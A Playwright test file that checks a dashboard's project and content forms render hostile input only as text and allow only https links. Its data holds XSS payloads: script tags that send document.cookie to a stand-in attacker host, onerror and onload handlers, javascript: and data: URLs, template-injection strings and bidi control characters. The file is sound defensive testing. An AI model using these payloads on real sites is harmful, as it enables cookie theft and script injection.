import type { Page } from '@playwright/test';
import { PROJECT_LIMITS } from '../../../shared/model/project.ts';
import { PAGE_CONTENT_LIMITS } from '../../../shared/model/sections.ts';
import { deleteKept } from '../../support/keptLists.ts';
import { clearStore, readCollection, storeDocument, storeProject } from '../emulatorStore.ts';
import { expectAtCard, fillProject, openNewProject, openTab } from './dashboardPage.ts';
import { expect, test } from './staffTest.ts';

const ATTACKER = 'https://attacker.example';

const ATTACKS = [
  `<script>stolen=1;fetch('${ATTACKER}/a?'+document.cookie)</script>`,
  `<img src="${ATTACKER}/b" onerror="stolen=1;alert(1)">`,
  `"><svg/onload=alert(1)>`,
  `</textarea></p></dialog><iframe src="javascript:alert(1)"></iframe>`,
  `<a href="javascript:alert(1)">javascript:alert(1)</a>`,
  `<style>@import "${ATTACKER}/c.css";*{display:none}</style><meta http-equiv="refresh" content="0;${ATTACKER}">`,
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> &lt;b&gt; &#0; %3Cscript%3E",
  '\u202egnirts desrever\u202c \u2066isolated\u2069 \u200b\u200d\ufeff \u0007\u001b[31m',
  'e\u0301 \u{1f469}\u200d\u{1f469}\u200d\u{1f467} \u{1f3f4}\u{e0067}\u{e007f} مشروع שלום 中文 \u{10ffff}',
].join('\n');

/** The attacks, repeated to exactly that length, without cutting a character in half. */
function hostile(length: number): string {
  const text = ATTACKS.repeat(Math.ceil(length / ATTACKS.length)).slice(0, length - 1);
  return `${text.replace(/[\ud800-\udbff]$/, 'x')}!`.padEnd(length, '!');
}

const TITLE = `<img src=x onerror=alert(1)>"'\u202e</title><script>alert(1)</script>`;
const DESCRIPTION = hostile(PROJECT_LIMITS.description);
const TECHNOLOGIES = ['<script>alert(1)</script>', 'javascript:alert(1)', '\u202eoG', '"><b>'];
const LINKS = {
  imageUrl: `javascript:fetch('${ATTACKER}/d')`,
  demoUrl: `${ATTACKER}/" onclick="alert(1)`,
  githubUrl: 'data:text/html,<script>alert(1)</script>',
};
const CONTENT = hostile(PAGE_CONTENT_LIMITS.content);
const ID = 'abcdefghij0123456789';

/** Marks that must not become anything but text and https links. */
const MARKS = [
  '[a](javascript:alert(1)) [b](JAVASCRIPT:stolen=1) [c](data:text/html,<script>alert(1)</script>)',
  `[https://bank.example](${ATTACKER}/e) [bank.example](${ATTACKER}/f) ![g](${ATTACKER}/g.png)`,
  `[h](https://user:password@attacker.example) [i](//attacker.example) [j](${ATTACKER}/"onclick="alert(1))`,
  `<${ATTACKER}/k> [l][m] [m]: ${ATTACKER}/m`,
  '**<img src=x onerror=alert(1)>** *<script>stolen=1</script>* [<b>n</b>](https://example.com/n)',
  '\u202e[reversed](https://example.com/o)\u202c **bold \u0007 \u2066isolated** &lt;b&gt;',
  `${'**a *'.repeat(60)}${'[('.repeat(60)}`,
  '## <svg/onload=alert(1)>',
  '- - - <iframe src="javascript:alert(1)"></iframe>',
].join('\n\n');

/** Watches for effects that text must never have; `logged` watches for policy violations, `dialogs` for alerts. */
function watchEffects(page: Page): () => Promise<void> {
  const effects: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(ATTACKER)) effects.push(`request: ${request.url()}`);
  });
  page.on('popup', (popup) => effects.push(`popup: ${popup.url()}`));
  return async () => {
    expect(effects).toEqual([]);
    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
    const links = await page
      .locator('a')
      .evaluateAll((all) => all.map((a) => a.getAttribute('href')));
    expect(links.filter((href) => /^(javascript|data):|attacker/i.test(href ?? ''))).toEqual([]);
  };
}

async function fieldsOf(collection: string): Promise<Record<string, unknown>> {
  const [stored] = await readCollection(collection);
  return stored?.fields ?? {};
}

async function addTechnologies(page: Page): Promise<void> {
  const field = page.getByRole('textbox', { name: 'Technologies' });
  for (const technology of TECHNOLOGIES) {
    await field.fill(technology);
    await field.press('Enter');
  }
}

test('a project’s hostile texts, stored without the form or typed in it, are shown and stored as text', async ({
  page,
  showDashboard,
}) => {
  const form = { title: TITLE, description: DESCRIPTION, technologies: TECHNOLOGIES };
  await storeProject(ID, { ...form, ...LINKS });
  const expectNoEffect = watchEffects(page);
  await showDashboard('Projects');
  const card = page.getByRole('listitem').filter({ has: page.getByRole('heading', { level: 3 }) });
  await expect(card.getByRole('heading')).toHaveText(TITLE);
  await expect(card.getByText(TECHNOLOGIES[0] ?? '', { exact: true })).toBeVisible();
  expect(await card.innerText()).toContain('<script>stolen=1');
  // Direction characters affect only their own text.
  await expect(card.locator('bdi', { hasText: 'oG' })).toHaveText('\u202eoG');
  await expectNoEffect();

  await card.getByRole('button', { name: 'Edit' }).click();
  const dialog = page.getByRole('dialog', { name: 'Edit Project' });
  await expect(dialog.getByLabel('Project Title')).toHaveValue(TITLE);
  await expect(dialog.getByLabel('Description')).toHaveValue(DESCRIPTION);
  await expect(dialog.getByLabel('Image URL')).toHaveValue(LINKS.imageUrl);
  await expectNoEffect();

  await dialog.getByRole('button', { name: 'Update Project' }).click();
  await expect(dialog.getByText('Enter a full link that starts with https://')).toHaveCount(3);
  for (const name of ['Image URL', 'Demo URL (Optional)', 'GitHub URL (Optional)']) {
    await dialog.getByLabel(name).fill('');
  }
  await dialog.getByRole('button', { name: 'Update Project' }).click();
  await expect(dialog).toBeHidden();
  await expectNoEffect();
  const stored = await fieldsOf('projects');
  expect(stored['title']).toEqual({ stringValue: TITLE });
  expect(stored['description']).toEqual({ stringValue: DESCRIPTION });
  expect(stored['imageUrl']).toEqual({ stringValue: '' });

  await clearStore();
  await deleteKept(page);
  await showDashboard();
  await openNewProject(page);
  await fillProject(page, TITLE, DESCRIPTION);
  await addTechnologies(page);
  await expectNoEffect();
  await page.getByRole('button', { name: 'Create Project' }).click();
  await expect(page.getByRole('dialog')).toBeHidden();
  await openTab(page, 'Projects');
  await expect(page.getByRole('heading', { level: 3 })).toHaveText(TITLE);
  await expectNoEffect();
  const added = await fieldsOf('projects');
  expect(added['title']).toEqual({ stringValue: TITLE });
  expect(added['description']).toEqual({ stringValue: DESCRIPTION });
  expect(added['technologies']).toEqual({
    arrayValue: { values: TECHNOLOGIES.map((stringValue) => ({ stringValue })) },
  });
});

test('a description’s hostile marks make no link but those to https, in its card, its form and its preview', async ({
  page,
  showDashboard,
}) => {
  await storeProject(ID, { title: 'Marks', description: MARKS, featured: true });
  const expectNoEffect = watchEffects(page);
  await showDashboard('Projects');
  const card = page.getByRole('listitem').filter({ has: page.getByRole('heading', { level: 3 }) });
  expect(await card.innerText()).toContain('[a](javascript:alert(1))');
  await card.getByRole('button', { name: 'Edit' }).click();
  const dialog = page.getByRole('dialog', { name: 'Edit Project' });
  const description = dialog.getByLabel('Description');
  await expect(description).toHaveValue(MARKS);
  await page.getByRole('button', { name: 'Preview', exact: true }).click();
  const preview = page.frameLocator('iframe').getByRole('main');
  await expect(preview.getByText('[a](javascript:alert(1))').first()).toBeVisible();
  for (const text of [MARKS, `${MARKS} typed`]) {
    await description.fill(text);
    const addresses = preview
      .locator('a')
      .evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
    const outside = (await addresses).filter((address) => !address.startsWith('/'));
    expect(outside.filter((address) => !/^https:\/\/example\.com\/[no]$/.test(address))).toEqual(
      [],
    );
    expect(await preview.locator('script, iframe, [onclick], [onerror], [onload]').count()).toBe(0);
    await expectNoEffect();
  }
});

test('a section stored without the form is shown, edited and saved as text', async ({
  page,
  showDashboard,
}) => {
  const section = { id: 'hero-title', title: TITLE, content: CONTENT, lastUpdated: new Date() };
  await storeDocument('pageContent/hero-title', section);
  const expectNoEffect = watchEffects(page);
  await showDashboard('Content');
  const card = page
    .getByRole('listitem')
    .filter({ has: page.getByRole('heading', { name: TITLE, exact: true }) });
  expect(await card.innerText()).toContain('<script>stolen=1');
  await expectNoEffect();

  await card.getByRole('button', { name: 'Edit Content' }).click();
  const content = page.getByRole('textbox', { name: 'Content', exact: true });
  await expect(page.getByLabel('Section Title')).toHaveValue(TITLE);
  await expect(content).toHaveValue(CONTENT);
  const changed = `?${CONTENT.slice(1)}`;
  await content.fill(changed);
  await page.getByRole('button', { name: 'Save Content' }).click();
  await expectAtCard(page, TITLE);
  await expectNoEffect();
  const stored = await fieldsOf('pageContent');
  expect(stored['title']).toEqual({ stringValue: TITLE });
  expect(stored['content']).toEqual({ stringValue: changed });
});
